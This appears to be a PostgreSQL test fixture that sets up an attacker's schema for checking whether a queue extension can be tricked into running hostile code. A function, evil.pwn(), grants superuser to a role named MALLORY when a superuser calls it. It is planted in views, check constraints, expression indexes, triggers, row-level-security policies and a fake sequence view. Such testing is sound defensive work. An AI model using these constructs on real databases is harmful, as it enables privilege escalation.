-- What an attacker lays out in a schema of his own: relations whose use as a queue's table or
-- sequence runs evil.pwn().
create schema evil;
create sequence evil.caught;
grant usage on schema evil to public;
grant usage, update on sequence evil.caught to public;

create function evil.pwn() returns bigint language plpgsql as $$
begin
    if (select rolsuper from pg_roles where rolname = current_user) then
        perform nextval('evil.caught');
        execute format('alter role %I superuser', 'MALLORY');
    end if;
    return 1;
end;
$$;
create function evil.pwn_row() returns trigger language plpgsql as $$ begin perform evil.pwn();
    return new; end $$;
create function evil.pwn_constant() returns bigint language plpgsql immutable as $$ begin return
    evil.pwn(); end $$;

do $$
declare
    n text;
    c text := 'ev_id bigint, ev_time timestamptz, ev_txid bigint, ev_owner integer, ev_retry'
        ' integer, ev_type text, ev_data text,'
              ' ev_extra1 text, ev_extra2 text, ev_extra3 text, ev_extra4 text';
begin
    foreach n in array array['', '_0', '_1', '_2'] loop
        execute format('create view evil.view%s as select 100::bigint as ev_id, now() as ev_time,'
            ' evil.pwn() as ev_txid,'
                       ' null::integer as ev_owner, null::integer as ev_retry, ''t''::text as'
                           ' ev_type, ''''::text as ev_data,'
                       ' null::text as ev_extra1, null::text as ev_extra2, null::text as'
                           ' ev_extra3, null::text as ev_extra4', n);
        execute format('create temp view own%s as select * from evil.view%s', n, n);
        execute format('create table evil.checked%s (%s, check (evil.pwn_constant() = 1))', n, c);
        execute format('create table evil.indexed%s (%s)', n, c);
        execute format('create index on evil.indexed%s (ev_txid)', n);
        execute format('create index on evil.indexed%s ((evil.pwn_constant() + ev_id))', n);
        execute format('create table evil.triggered%s (%s)', n, c);
        execute format('create trigger t before insert or truncate on evil.triggered%s for each'
            ' statement execute function evil.pwn_row()', n);
        execute format('create table evil.divided%s (%s) partition by range (ev_id)', n, c);
        execute format('create table evil.policed%s (%s)', n, c);
        execute format('create index on evil.policed%s (ev_txid)', n);
        execute format('create policy p on evil.policed%s using (evil.pwn() = 1) with check'
            ' (evil.pwn() = 1)', n);
        execute format('alter table evil.policed%s enable row level security, force row level'
            ' security', n);
    end loop;
end;
$$;
create sequence evil.counter;
create view evil.counting as select evil.pwn() as last_value, 0::bigint as log_cnt, true as
    is_called;
create temp view counting as select evil.pwn() as last_value, 0::bigint as log_cnt, true as
    is_called;
